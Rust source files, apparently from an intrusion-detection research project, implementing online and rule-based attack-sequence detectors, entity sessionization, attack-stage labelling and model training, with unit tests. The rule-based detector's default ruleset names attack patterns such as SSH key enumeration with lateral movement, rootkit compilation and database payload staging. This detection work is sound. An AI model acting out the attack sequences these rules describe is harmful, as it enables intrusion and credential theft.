        assert!(tagger_sum.mean_lead_secs > 0.0);
        assert_eq!(tagger_sum.false_positives, 0);
        assert!(tagger_sum.f1 > 0.99);

        let critical = CriticalOnlyDetector::new();
        let (_, crit_sum) = evaluate(&critical, &store, &benign);
        assert_eq!(crit_sum.detected, 5);
        assert_eq!(
            crit_sum.preempted, 0,
            "critical-only never preempts (Insight 4)"
        );
        assert_eq!(crit_sum.preemption_rate, 0.0);
    }

    #[test]
    fn rule_detector_preempts_known_patterns() {
        let store = corpus();
        let rules = RuleBasedDetector::with_default_rules();
        let (outcomes, sum) = evaluate(&rules, &store, &[]);
        assert_eq!(sum.preempted, 5);
        for o in outcomes {
            assert_eq!(
                o.alerts_to_detect,
                Some(3),
                "s1 rule completes at the third alert"
            );
            assert!(o.lead.is_some());
        }
    }

    #[test]
    fn prefix_sweep_shows_effective_range() {
        let store = corpus();
        let tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let sweep = prefix_sweep(&tagger, &store, 5);
        assert_eq!(sweep.len(), 5);
        // One alert (a scan) is not enough; by 2–4 alerts detection is in
        // the effective range (Insight 2).
        assert_eq!(sweep[0].1, 0.0, "single scan alert must not trigger");
        assert!(sweep[2].1 > 0.99, "three alerts suffice");
        // Monotone non-decreasing in k.
        for w in sweep.windows(2) {
            assert!(w[1].1 >= w[0].1);
        }
    }

    #[test]
    fn false_positives_reduce_precision() {
        use AlertKind::*;
        let store = corpus();
        // A detector that fires on everything.
        struct FireAlways;
        impl SequenceDetector for FireAlways {
            fn name(&self) -> &str {
                "fire-always"
            }
            fn scan(&self, alerts: &[Alert]) -> Option<Detection> {
                alerts.first().map(|a| Detection {
                    ts: a.ts,
                    alert_index: 0,
                    trigger: a.kind,
                    score: 1.0,
                    stage: crate::stage::Stage::Recon,
                })
            }
        }
        let benign = benign();
        let (_, sum) = evaluate(&FireAlways, &store, &benign);
        assert_eq!(sum.false_positives, 10);
        assert!(sum.precision < 0.4);
        let _ = LoginSuccess; // silence unused-import lint path
    }
}
