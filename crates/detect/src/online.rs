//! Online adapter for offline session-scan detectors.
//!
//! The baseline detectors ([`RuleBasedDetector`](crate::rules::RuleBasedDetector),
//! [`CriticalOnlyDetector`](crate::critical::CriticalOnlyDetector)) expose an
//! offline `scan(&[Alert])` API over a whole session. The streaming pipeline
//! needs the same decision *online*: one alert at a time, detection raised at
//! the earliest alert that completes a match, latched per entity (§III-B:
//! one entity = one attack session).
//!
//! [`OnlineSessionDetector`] buffers a bounded per-entity session and
//! re-scans it on every appended alert. Sessions are short (tens of alerts)
//! and the scanners are linear-ish, so the re-scan is cheap; the context cap
//! bounds memory on adversarially long sessions.

use std::collections::VecDeque;

use alertlib::alert::{Alert, EntityId};
use simnet::rng::{FxHashMap, FxHashSet};

use crate::attack_tagger::Detection;
use crate::metrics::SequenceDetector;

/// Default per-entity context cap (alerts retained for re-scanning).
pub const DEFAULT_SESSION_CONTEXT: usize = 256;

/// Streams alerts into per-entity sessions and raises each entity's first
/// detection online, replicating the offline `scan` decision.
#[derive(Debug, Clone)]
pub struct OnlineSessionDetector<D> {
    detector: D,
    sessions: FxHashMap<EntityId, VecDeque<Alert>>,
    latched: FxHashSet<EntityId>,
    /// Per-entity session cap; oldest alerts are dropped beyond it
    /// (O(1) ring-buffer eviction).
    max_context: usize,
}

impl<D: SequenceDetector> OnlineSessionDetector<D> {
    pub fn new(detector: D) -> Self {
        Self::with_context(detector, DEFAULT_SESSION_CONTEXT)
    }

    pub fn with_context(detector: D, max_context: usize) -> Self {
        assert!(max_context > 0, "context cap must be positive");
        OnlineSessionDetector {
            detector,
            sessions: FxHashMap::default(),
            latched: FxHashSet::default(),
            max_context,
        }
    }

    pub fn detector(&self) -> &D {
        &self.detector
    }

    /// Number of entities with buffered session state (latched entities
    /// drop their buffers and are not counted).
    pub fn tracked_entities(&self) -> usize {
        self.sessions.len()
    }

    /// Observe one alert; returns the entity's first detection when the
    /// buffered session first matches (latched thereafter).
    ///
    /// Latched entities are not buffered: their session can never be
    /// scanned again, so the buffer is dropped on latch and later alerts
    /// cost one hash lookup, no clone.
    pub fn observe(&mut self, alert: &Alert) -> Option<Detection> {
        let key = alert.entity.id();
        if self.latched.contains(&key) {
            return None;
        }
        let session = self.sessions.entry(key).or_default();
        if session.len() == self.max_context {
            session.pop_front();
        }
        session.push_back(*alert);
        let detection = self.detector.scan(session.make_contiguous())?;
        self.sessions.remove(&key);
        self.latched.insert(key);
        Some(detection)
    }

    /// Forget all per-entity state.
    pub fn reset(&mut self) {
        self.sessions.clear();
        self.latched.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::critical::CriticalOnlyDetector;
    use crate::rules::RuleBasedDetector;
    use alertlib::alert::Entity;
    use alertlib::taxonomy::AlertKind;
    use simnet::time::SimTime;

    fn alert(t: u64, kind: AlertKind, user: &str) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User(user.into()))
    }

    #[test]
    fn online_matches_offline_first_detection() {
        use AlertKind::*;
        let session = vec![
            alert(0, PortScan, "eve"),
            alert(10, DownloadSensitive, "eve"),
            alert(20, CompileKernelModule, "eve"),
            alert(30, LogWipe, "eve"),
        ];
        let offline = RuleBasedDetector::with_default_rules()
            .scan(&session)
            .expect("offline detection");
        let mut online = OnlineSessionDetector::new(RuleBasedDetector::with_default_rules());
        let mut first = None;
        for a in &session {
            if let Some(d) = online.observe(a) {
                first = Some(d);
                break;
            }
        }
        assert_eq!(first, Some(offline));
    }

    #[test]
    fn detection_latches_per_entity() {
        use AlertKind::*;
        let mut online = OnlineSessionDetector::new(CriticalOnlyDetector::new());
        let mut fired = 0;
        for t in 0..5 {
            if online
                .observe(&alert(t, PrivilegeEscalation, "eve"))
                .is_some()
            {
                fired += 1;
            }
        }
        assert_eq!(fired, 1);
        // A different entity gets its own latch.
        assert!(online
            .observe(&alert(9, PrivilegeEscalation, "mallory"))
            .is_some());
        // Both entities latched -> both session buffers dropped.
        assert_eq!(online.tracked_entities(), 0);
        assert_eq!(online.latched.len(), 2);
    }

    #[test]
    fn context_cap_bounds_sessions() {
        use AlertKind::*;
        let mut online =
            OnlineSessionDetector::with_context(RuleBasedDetector::with_default_rules(), 4);
        for t in 0..100 {
            online.observe(&alert(t, LoginSuccess, "alice"));
        }
        let alice = EntityId::from_key("user:alice").unwrap();
        assert_eq!(online.sessions.get(&alice).unwrap().len(), 4);
        online.reset();
        assert_eq!(online.tracked_entities(), 0);
    }
}
