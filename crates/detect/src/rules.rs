//! Rule-based baseline detector (ref [5]).
//!
//! The paper's testbed runs both a "rule-based detector [5]" and the
//! factor-graph detector. This baseline matches ordered alert-kind
//! sequences within a time window — the signature-matching approach that
//! Insight 1 motivates (recurring alert sequences) but that lacks the
//! probabilistic weighting of Remark 2.

use alertlib::alert::Alert;
use alertlib::taxonomy::AlertKind;
use serde::{Deserialize, Serialize};
use simnet::time::SimDuration;

use crate::attack_tagger::Detection;
use crate::stage::Stage;

/// A detection rule: an ordered kind sequence within a window.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Rule {
    pub name: String,
    pub sequence: Vec<AlertKind>,
    pub window: SimDuration,
}

impl Rule {
    pub fn new(name: impl Into<String>, sequence: Vec<AlertKind>, window: SimDuration) -> Rule {
        assert!(!sequence.is_empty(), "rule needs at least one kind");
        Rule {
            name: name.into(),
            sequence,
            window,
        }
    }
}

/// The rule engine.
#[derive(Debug, Clone, Default)]
pub struct RuleBasedDetector {
    rules: Vec<Rule>,
}

impl RuleBasedDetector {
    pub fn new(rules: Vec<Rule>) -> Self {
        RuleBasedDetector { rules }
    }

    /// The default ruleset: known recurring patterns from the corpus.
    pub fn with_default_rules() -> Self {
        use AlertKind::*;
        let d = SimDuration::from_hours(48);
        Self::new(vec![
            Rule::new(
                "s1-rootkit",
                vec![DownloadSensitive, CompileKernelModule],
                d,
            ),
            Rule::new(
                "db-payload-staging",
                vec![DbVersionRecon, ElfMagicInDbBlob],
                d,
            ),
            Rule::new("db-file-drop", vec![ElfMagicInDbBlob, LoExportExecution], d),
            Rule::new(
                "ssh-key-lateral",
                vec![SshKeyEnumeration, LateralMovementAttempt],
                d,
            ),
            Rule::new("known-malware", vec![KnownMalwareDownload], d),
            Rule::new("honeytoken", vec![HoneytokenAccess], d),
            Rule::new(
                "rce-chain",
                vec![RemoteCodeExecAttempt, DownloadBinaryUnknown],
                d,
            ),
        ])
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    pub fn add_rule(&mut self, rule: Rule) {
        self.rules.push(rule);
    }

    /// Scan a session for the earliest rule match. Returns the detection at
    /// the alert completing the earliest-finishing rule.
    pub fn scan(&self, alerts: &[Alert]) -> Option<Detection> {
        let mut best: Option<(usize, &Rule, f64)> = None;
        for rule in &self.rules {
            if let Some(idx) = match_rule(rule, alerts) {
                let better = match best {
                    None => true,
                    Some((bidx, _, _)) => idx < bidx,
                };
                if better {
                    best = Some((idx, rule, 1.0));
                }
            }
        }
        best.map(|(idx, _rule, score)| Detection {
            ts: alerts[idx].ts,
            alert_index: idx,
            trigger: alerts[idx].kind,
            score,
            stage: Stage::from_phase(alerts[idx].kind.phase()),
        })
    }
}

/// Find the first index at which `rule.sequence` completes as a subsequence
/// whose first and last matched alerts fall within the window.
fn match_rule(rule: &Rule, alerts: &[Alert]) -> Option<usize> {
    // Greedy anchored scan from each candidate start; early-exit on first
    // completion. Sessions are short (tens of alerts), so the O(n·m)
    // re-anchor loop is cheap and exact.
    for start in 0..alerts.len() {
        if alerts[start].kind != rule.sequence[0] {
            continue;
        }
        let t0 = alerts[start].ts;
        let mut needle = 1;
        if rule.sequence.len() == 1 {
            return Some(start);
        }
        for (i, a) in alerts.iter().enumerate().skip(start + 1) {
            if a.ts.saturating_since(t0) > rule.window {
                break;
            }
            if a.kind == rule.sequence[needle] {
                needle += 1;
                if needle == rule.sequence.len() {
                    return Some(i);
                }
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::alert::Entity;
    use simnet::time::SimTime;

    fn alert(t: u64, kind: AlertKind) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User("e".into()))
    }

    #[test]
    fn s1_rule_fires_at_second_step() {
        use AlertKind::*;
        let det = RuleBasedDetector::with_default_rules();
        let session = vec![
            alert(0, PortScan),
            alert(10, DownloadSensitive),
            alert(20, CompileKernelModule),
            alert(30, LogWipe),
        ];
        let d = det.scan(&session).expect("rule should fire");
        assert_eq!(d.alert_index, 2);
        assert_eq!(d.trigger, CompileKernelModule);
    }

    #[test]
    fn window_expiry_blocks_match() {
        use AlertKind::*;
        let rule = Rule::new(
            "slow",
            vec![DownloadSensitive, CompileKernelModule],
            SimDuration::from_secs(10),
        );
        let det = RuleBasedDetector::new(vec![rule]);
        let session = vec![alert(0, DownloadSensitive), alert(100, CompileKernelModule)];
        assert!(det.scan(&session).is_none());
    }

    #[test]
    fn reanchoring_finds_later_start() {
        use AlertKind::*;
        let rule = Rule::new(
            "pair",
            vec![DownloadSensitive, CompileKernelModule],
            SimDuration::from_secs(10),
        );
        let det = RuleBasedDetector::new(vec![rule]);
        // First DownloadSensitive expires, second anchors a valid match.
        let session = vec![
            alert(0, DownloadSensitive),
            alert(100, DownloadSensitive),
            alert(105, CompileKernelModule),
        ];
        let d = det.scan(&session).expect("re-anchored match");
        assert_eq!(d.alert_index, 2);
    }

    #[test]
    fn earliest_completing_rule_wins() {
        use AlertKind::*;
        let det = RuleBasedDetector::with_default_rules();
        let session = vec![
            alert(0, KnownMalwareDownload), // single-kind rule fires at 0
            alert(10, DownloadSensitive),
            alert(20, CompileKernelModule),
        ];
        let d = det.scan(&session).unwrap();
        assert_eq!(d.alert_index, 0);
        assert_eq!(d.trigger, KnownMalwareDownload);
    }

    #[test]
    fn no_match_no_detection() {
        use AlertKind::*;
        let det = RuleBasedDetector::with_default_rules();
        let session = vec![alert(0, LoginSuccess), alert(1, JobSubmit)];
        assert!(det.scan(&session).is_none());
    }

    #[test]
    fn empty_rule_rejected() {
        assert!(std::panic::catch_unwind(|| {
            Rule::new("bad", vec![], SimDuration::from_secs(1))
        })
        .is_err());
    }
}
