//! Entity sessionization.
//!
//! §III-B's threat model: AttackTagger "treats it as a single attack if an
//! attacker moves laterally using the same user account" and as separate
//! attacks when different accounts are used. Sessionization groups the
//! interleaved alert stream into per-entity, time-ordered sessions.

use alertlib::alert::{Alert, Entity, EntityId};
use simnet::rng::FxHashMap;
use simnet::time::{SimDuration, SimTime};

/// A per-entity alert session.
#[derive(Debug, Clone)]
pub struct Session {
    pub entity: Entity,
    pub alerts: Vec<Alert>,
}

impl Session {
    pub fn start(&self) -> Option<SimTime> {
        self.alerts.first().map(|a| a.ts)
    }

    pub fn end(&self) -> Option<SimTime> {
        self.alerts.last().map(|a| a.ts)
    }

    pub fn len(&self) -> usize {
        self.alerts.len()
    }

    pub fn is_empty(&self) -> bool {
        self.alerts.is_empty()
    }
}

/// Streaming sessionizer with an idle-gap cutoff: if an entity is silent
/// longer than `idle_gap`, its next alert opens a new session.
#[derive(Debug)]
pub struct Sessionizer {
    idle_gap: SimDuration,
    open: FxHashMap<EntityId, Session>,
    closed: Vec<Session>,
}

impl Sessionizer {
    pub fn new(idle_gap: SimDuration) -> Self {
        Sessionizer {
            idle_gap,
            open: FxHashMap::default(),
            closed: Vec::new(),
        }
    }

    /// Feed one alert (must arrive in global time order).
    pub fn push(&mut self, alert: Alert) {
        let key = alert.entity.id();
        match self.open.get_mut(&key) {
            Some(session) => {
                let stale = session
                    .end()
                    .is_some_and(|e| alert.ts.saturating_since(e) > self.idle_gap);
                if stale {
                    let finished = std::mem::replace(
                        session,
                        Session {
                            entity: alert.entity,
                            alerts: Vec::new(),
                        },
                    );
                    self.closed.push(finished);
                }
                session.alerts.push(alert);
            }
            None => {
                self.open.insert(
                    key,
                    Session {
                        entity: alert.entity,
                        alerts: vec![alert],
                    },
                );
            }
        }
    }

    /// Close all open sessions and return everything, ordered by session
    /// start time.
    pub fn finish(mut self) -> Vec<Session> {
        let mut all = self.closed;
        all.extend(self.open.drain().map(|(_, s)| s));
        all.sort_by_key(|s| s.start());
        all
    }

    /// Number of currently open sessions.
    pub fn open_count(&self) -> usize {
        self.open.len()
    }
}

/// One-shot helper: sessionize a time-ordered batch with an idle gap.
pub fn sessionize(alerts: impl IntoIterator<Item = Alert>, idle_gap: SimDuration) -> Vec<Session> {
    let mut s = Sessionizer::new(idle_gap);
    for a in alerts {
        s.push(a);
    }
    s.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::taxonomy::AlertKind;

    fn alert(t: u64, entity: Entity) -> Alert {
        Alert::new(SimTime::from_secs(t), AlertKind::LoginSuccess, entity)
    }

    #[test]
    fn groups_by_entity() {
        let alerts = vec![
            alert(0, Entity::User("a".into())),
            alert(1, Entity::User("b".into())),
            alert(2, Entity::User("a".into())),
        ];
        let sessions = sessionize(alerts, SimDuration::from_hours(1));
        assert_eq!(sessions.len(), 2);
        let a = sessions
            .iter()
            .find(|s| s.entity == Entity::User("a".into()))
            .unwrap();
        assert_eq!(a.len(), 2);
    }

    #[test]
    fn idle_gap_splits_sessions() {
        let alerts = vec![
            alert(0, Entity::User("a".into())),
            alert(10, Entity::User("a".into())),
            alert(10_000, Entity::User("a".into())), // > 1h later
        ];
        let sessions = sessionize(alerts, SimDuration::from_hours(1));
        assert_eq!(sessions.len(), 2);
        assert_eq!(sessions[0].len(), 2);
        assert_eq!(sessions[1].len(), 1);
    }

    #[test]
    fn same_account_across_sources_is_one_session() {
        // Threat model: multiple attackers, one account → one attack.
        let mut a1 = alert(0, Entity::User("eve".into()));
        a1.src = Some("1.1.1.1".parse().unwrap());
        let mut a2 = alert(5, Entity::User("eve".into()));
        a2.src = Some("2.2.2.2".parse().unwrap());
        let sessions = sessionize(vec![a1, a2], SimDuration::from_hours(1));
        assert_eq!(sessions.len(), 1);
        assert_eq!(sessions[0].len(), 2);
    }

    #[test]
    fn sessions_ordered_by_start() {
        let alerts = vec![
            alert(50, Entity::User("late".into())),
            alert(1, Entity::User("early".into())),
            alert(51, Entity::User("late".into())),
        ];
        let mut s = Sessionizer::new(SimDuration::from_hours(1));
        // Feed in time order.
        let mut sorted = alerts;
        sorted.sort_by_key(|a| a.ts);
        for a in sorted {
            s.push(a);
        }
        assert_eq!(s.open_count(), 2);
        let sessions = s.finish();
        assert_eq!(sessions[0].entity, Entity::User("early".into()));
    }
}
