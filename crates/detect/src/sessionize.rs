//! Entity sessionization.
//!
//! §III-B's threat model: AttackTagger "treats it as a single attack if an
//! attacker moves laterally using the same user account" and as separate
//! attacks when different accounts are used. Sessionization groups the
//! interleaved alert stream into per-entity, time-ordered sessions.

use alertlib::alert::{Alert, Entity, EntityId};
use simnet::rng::FxHashMap;
use simnet::time::{SimDuration, SimTime};

/// A per-entity alert session.
#[derive(Debug, Clone)]
pub struct Session {
    pub entity: Entity,
    pub alerts: Vec<Alert>,
}

impl Session {
    pub fn start(&self) -> Option<SimTime> {
        self.alerts.first().map(|a| a.ts)
    }

    pub fn end(&self) -> Option<SimTime> {
        self.alerts.last().map(|a| a.ts)
    }

    pub fn len(&self) -> usize {
        self.alerts.len()
    }

    pub fn is_empty(&self) -> bool {
        self.alerts.is_empty()
    }
}

/// Streaming sessionizer with an idle-gap cutoff: if an entity is silent
/// longer than `idle_gap`, its next alert opens a new session.
#[derive(Debug)]
pub struct Sessionizer {
    idle_gap: SimDuration,
    open: FxHashMap<EntityId, Session>,
    closed: Vec<Session>,
    /// Duplicate-suppression window: an alert exactly matching the tail
    /// of its entity's open session (same `ts` and `kind`) within the
    /// window is dropped as a telemetry re-delivery. `None` (default)
    /// keeps every alert.
    dedup_window: Option<SimDuration>,
    duplicates_suppressed: u64,
}

impl Sessionizer {
    pub fn new(idle_gap: SimDuration) -> Self {
        Sessionizer {
            idle_gap,
            open: FxHashMap::default(),
            closed: Vec::new(),
            dedup_window: None,
            duplicates_suppressed: 0,
        }
    }

    /// Enable degraded-mode duplicate suppression (see `dedup_window`).
    pub fn with_dedup_window(mut self, window: SimDuration) -> Self {
        self.dedup_window = Some(window);
        self
    }

    /// Alerts dropped as telemetry re-deliveries.
    pub fn duplicates_suppressed(&self) -> u64 {
        self.duplicates_suppressed
    }

    /// Feed one alert (must arrive in global time order).
    pub fn push(&mut self, alert: Alert) {
        let key = alert.entity.id();
        match self.open.get_mut(&key) {
            Some(session) => {
                if let Some(window) = self.dedup_window {
                    let redelivered = session.alerts.last().is_some_and(|last| {
                        last.ts == alert.ts
                            && last.kind == alert.kind
                            && alert.ts.saturating_since(last.ts) <= window
                    });
                    if redelivered {
                        self.duplicates_suppressed += 1;
                        return;
                    }
                }
                let stale = session
                    .end()
                    .is_some_and(|e| alert.ts.saturating_since(e) > self.idle_gap);
                if stale {
                    let finished = std::mem::replace(
                        session,
                        Session {
                            entity: alert.entity,
                            alerts: Vec::new(),
                        },
                    );
                    self.closed.push(finished);
                }
                session.alerts.push(alert);
            }
            None => {
                self.open.insert(
                    key,
                    Session {
                        entity: alert.entity,
                        alerts: vec![alert],
                    },
                );
            }
        }
    }

    /// Close all open sessions and return everything, ordered by session
    /// start time.
    pub fn finish(mut self) -> Vec<Session> {
        let mut all = self.closed;
        all.extend(self.open.drain().map(|(_, s)| s));
        all.sort_by_key(|s| s.start());
        all
    }

    /// Number of currently open sessions.
    pub fn open_count(&self) -> usize {
        self.open.len()
    }
}

/// One-shot helper: sessionize a time-ordered batch with an idle gap.
pub fn sessionize(alerts: impl IntoIterator<Item = Alert>, idle_gap: SimDuration) -> Vec<Session> {
    let mut s = Sessionizer::new(idle_gap);
    for a in alerts {
        s.push(a);
    }
    s.finish()
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::taxonomy::AlertKind;

    fn alert(t: u64, entity: Entity) -> Alert {
        Alert::new(SimTime::from_secs(t), AlertKind::LoginSuccess, entity)
    }

    #[test]
    fn groups_by_entity() {
        let alerts = vec![
            alert(0, Entity::User("a".into())),
            alert(1, Entity::User("b".into())),
            alert(2, Entity::User("a".into())),
        ];
        let sessions = sessionize(alerts, SimDuration::from_hours(1));
        assert_eq!(sessions.len(), 2);
        let a = sessions
            .iter()
            .find(|s| s.entity == Entity::User("a".into()))
            .unwrap();
        assert_eq!(a.len(), 2);
    }

    #[test]
    fn idle_gap_splits_sessions() {
        let alerts = vec![
            alert(0, Entity::User("a".into())),
            alert(10, Entity::User("a".into())),
            alert(10_000, Entity::User("a".into())), // > 1h later
        ];
        let sessions = sessionize(alerts, SimDuration::from_hours(1));
        assert_eq!(sessions.len(), 2);
        assert_eq!(sessions[0].len(), 2);
        assert_eq!(sessions[1].len(), 1);
    }

    #[test]
    fn same_account_across_sources_is_one_session() {
        // Threat model: multiple attackers, one account → one attack.
        let mut a1 = alert(0, Entity::User("eve".into()));
        a1.src = Some("1.1.1.1".parse().unwrap());
        let mut a2 = alert(5, Entity::User("eve".into()));
        a2.src = Some("2.2.2.2".parse().unwrap());
        let sessions = sessionize(vec![a1, a2], SimDuration::from_hours(1));
        assert_eq!(sessions.len(), 1);
        assert_eq!(sessions[0].len(), 2);
    }

    #[test]
    fn dedup_window_drops_redelivered_alerts() {
        let mut s = Sessionizer::new(SimDuration::from_hours(1))
            .with_dedup_window(SimDuration::from_mins(5));
        let eve = || Entity::User("eve".into());
        s.push(alert(0, eve()));
        s.push(alert(0, eve())); // at-least-once re-delivery
        s.push(alert(10, eve()));
        s.push(alert(10, eve()));
        assert_eq!(s.duplicates_suppressed(), 2);
        let sessions = s.finish();
        assert_eq!(sessions.len(), 1);
        assert_eq!(sessions[0].len(), 2, "one alert per delivery group");

        // Without a window nothing is dropped.
        let mut plain = Sessionizer::new(SimDuration::from_hours(1));
        plain.push(alert(0, eve()));
        plain.push(alert(0, eve()));
        assert_eq!(plain.duplicates_suppressed(), 0);
        assert_eq!(plain.finish()[0].len(), 2);
    }

    #[test]
    fn sessions_ordered_by_start() {
        let alerts = vec![
            alert(50, Entity::User("late".into())),
            alert(1, Entity::User("early".into())),
            alert(51, Entity::User("late".into())),
        ];
        let mut s = Sessionizer::new(SimDuration::from_hours(1));
        // Feed in time order.
        let mut sorted = alerts;
        sorted.sort_by_key(|a| a.ts);
        for a in sorted {
            s.push(a);
        }
        assert_eq!(s.open_count(), 2);
        let sessions = s.finish();
        assert_eq!(sessions[0].entity, Entity::User("early".into()));
    }
}
