//! Hidden attack stages.
//!
//! The factor-graph models of refs [5], [6] infer a *hidden attack state*
//! per observed event. We use a six-stage progression; the decision rule
//! collapses it to the paper's benign / suspicious / malicious verdicts.

use alertlib::taxonomy::Phase;
use serde::{Deserialize, Serialize};
use std::fmt;

/// Hidden attack stage, ordered by progression.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[repr(u8)]
pub enum Stage {
    /// Normal user activity.
    Benign = 0,
    /// Scanning / probing for vulnerable resources.
    Recon = 1,
    /// Initial access achieved; payload staging.
    Foothold = 2,
    /// Privilege escalation / defense evasion underway.
    Escalation = 3,
    /// Spreading through the network / exfil staging / C2.
    Lateral = 4,
    /// Irreversible damage: exfiltration or impact.
    Damage = 5,
}

impl Stage {
    /// All stages in progression order.
    pub const ALL: [Stage; 6] = [
        Stage::Benign,
        Stage::Recon,
        Stage::Foothold,
        Stage::Escalation,
        Stage::Lateral,
        Stage::Damage,
    ];

    /// Number of stages (the chain-model state cardinality).
    pub const COUNT: usize = 6;

    /// Dense index.
    #[inline]
    pub fn index(self) -> usize {
        self as usize
    }

    /// Stage for a dense index.
    ///
    /// # Panics
    /// Panics if `i >= COUNT`.
    pub fn from_index(i: usize) -> Stage {
        Self::ALL[i]
    }

    /// The typical stage an alert phase maps to. This seeds the supervised
    /// labels for training (§II-A's "annotated with corresponding attack
    /// states").
    pub fn from_phase(phase: Phase) -> Stage {
        match phase {
            Phase::Benign => Stage::Benign,
            Phase::Recon | Phase::Discovery => Stage::Recon,
            Phase::InitialAccess
            | Phase::Execution
            | Phase::Persistence
            | Phase::CredentialAccess => Stage::Foothold,
            Phase::PrivilegeEscalation | Phase::DefenseEvasion => Stage::Escalation,
            Phase::LateralMovement | Phase::Collection | Phase::CommandAndControl => Stage::Lateral,
            Phase::Exfiltration | Phase::Impact => Stage::Damage,
        }
    }

    /// Whether reaching this stage means the attack is in progress and a
    /// preemption decision is warranted.
    pub fn is_attack(self) -> bool {
        self >= Stage::Foothold
    }

    /// Whether this stage means damage has already occurred.
    pub fn is_damage(self) -> bool {
        self == Stage::Damage
    }
}

impl fmt::Display for Stage {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Stage::Benign => "benign",
            Stage::Recon => "recon",
            Stage::Foothold => "foothold",
            Stage::Escalation => "escalation",
            Stage::Lateral => "lateral",
            Stage::Damage => "damage",
        };
        f.write_str(s)
    }
}

/// The stage a single alert kind is evidence of. Attempt-severity alerts
/// (probes, brute force, sqli attempts) never escalate past `Recon`:
/// Remark 2 — "most daily attack attempts and mass brute-force scans will
/// fail", so an attempt alone is not evidence the attack took hold.
pub fn stage_of_kind(k: alertlib::taxonomy::AlertKind) -> Stage {
    use alertlib::taxonomy::Severity;
    let s = Stage::from_phase(k.phase());
    if k.severity() <= Severity::Attempt && s > Stage::Recon {
        Stage::Recon
    } else {
        s
    }
}

/// Label a kind sequence with monotone non-decreasing stages: attacks
/// progress, and noise alerts mid-attack do not reset the stage.
pub fn monotone_stage_labels(kinds: &[alertlib::taxonomy::AlertKind]) -> Vec<Stage> {
    let mut out = Vec::with_capacity(kinds.len());
    let mut current = Stage::Benign;
    for k in kinds {
        let s = stage_of_kind(*k);
        if s > current {
            current = s;
        }
        out.push(current);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use alertlib::taxonomy::AlertKind;

    #[test]
    fn ordering_and_indexing() {
        assert!(Stage::Benign < Stage::Recon);
        assert!(Stage::Lateral < Stage::Damage);
        for (i, s) in Stage::ALL.iter().enumerate() {
            assert_eq!(s.index(), i);
            assert_eq!(Stage::from_index(i), *s);
        }
    }

    #[test]
    fn phase_mapping_sensible() {
        assert_eq!(Stage::from_phase(Phase::Benign), Stage::Benign);
        assert_eq!(Stage::from_phase(Phase::Recon), Stage::Recon);
        assert_eq!(Stage::from_phase(Phase::Execution), Stage::Foothold);
        assert_eq!(Stage::from_phase(Phase::Impact), Stage::Damage);
        assert!(Stage::from_phase(Phase::LateralMovement).is_attack());
        assert!(!Stage::from_phase(Phase::Recon).is_attack());
    }

    #[test]
    fn monotone_labels_never_decrease() {
        use AlertKind::*;
        let kinds = [PortScan, DownloadSensitive, PortScan, LogWipe, LoginSuccess];
        let stages = monotone_stage_labels(&kinds);
        for w in stages.windows(2) {
            assert!(w[1] >= w[0]);
        }
        // The mid-attack PortScan stays at Foothold level.
        assert_eq!(stages[2], Stage::Foothold);
        assert_eq!(stages[3], Stage::Escalation);
    }

    #[test]
    fn damage_detection() {
        assert!(Stage::Damage.is_damage());
        assert!(!Stage::Lateral.is_damage());
        assert!(Stage::Foothold.is_attack());
    }
}
