//! Training the AttackTagger model from labeled incidents.
//!
//! Supervised maximum-likelihood over the annotated corpus (§II-A): each
//! incident's alert-kind sequence is labeled with monotone attack stages;
//! benign sessions contribute the "normal operational conditions" side of
//! Remark 2's conditional probabilities. Laplace smoothing keeps unseen
//! alert kinds from zeroing posteriors, which is what lets the model
//! generalize "to unseen attacks".

use alertlib::alert::Alert;
use alertlib::store::IncidentStore;
use alertlib::taxonomy::AlertKind;
use factorgraph::chain::ChainModel;
use factorgraph::learn::ChainLearner;
use factorgraph::timing::GapLearner;

use crate::stage::{monotone_stage_labels, Stage};

/// Gap (timing) training configuration — learns the
/// [`factorgraph::timing::GapModel`] attached to the chain model, turning
/// Insight 3's "attack tempo is evidence" into observation factors.
#[derive(Debug, Clone)]
pub struct GapTrainingConfig {
    /// Quantization bin boundaries, in seconds (upper edges; the last bin
    /// is open-ended). Coarse log-scale tempo classes.
    pub boundaries_secs: Vec<f64>,
    /// Gaps shorter than this carry no evidence, in training or online:
    /// machine-paced bursts come from scanners, exploit tooling and batch
    /// jobs alike, so sub-threshold tempo cannot separate stages.
    pub neutral_below_secs: f64,
    /// Add-k smoothing on gap-bin counts.
    pub smoothing: f64,
    /// Uniform mixture floor on each learned row (bounds the per-step
    /// likelihood ratio a gap observation can contribute — the
    /// false-positive guard).
    pub floor: f64,
    /// Tempo-augmentation factors: each labeled incident's gaps are
    /// additionally counted at these dilations, so the attack-stage rows
    /// cover the low-and-slow variants the mutation engine generates.
    /// Benign sessions are *not* augmented — low-and-slow is an attacker
    /// behaviour, and stretching benign tempo would erase exactly the
    /// contrast the feature exists to capture.
    pub tempo_augmentation: Vec<f64>,
}

impl Default for GapTrainingConfig {
    fn default() -> Self {
        GapTrainingConfig {
            // (<1m: neutral) | 1–10m | 10m–1h | 1–4h | 4–24h | ≥24h
            boundaries_secs: vec![60.0, 600.0, 3_600.0, 14_400.0, 86_400.0],
            neutral_below_secs: 60.0,
            smoothing: 0.5,
            floor: 0.10,
            // 1x twice: the observed tempo stays the best-supported row
            // mass; 4x/16x spread the manual heavy tail into the slow bins.
            tempo_augmentation: vec![1.0, 1.0, 4.0, 16.0],
        }
    }
}

/// Training configuration.
#[derive(Debug, Clone)]
pub struct TrainConfig {
    /// Laplace smoothing constant.
    pub smoothing: f64,
    /// Weight applied to benign sessions relative to incidents. Benign
    /// traffic vastly outnumbers attacks in the wild; the model should see
    /// that imbalance.
    pub benign_weight: f64,
    /// Timing side of the model; `None` trains the order-only chain.
    pub gap: Option<GapTrainingConfig>,
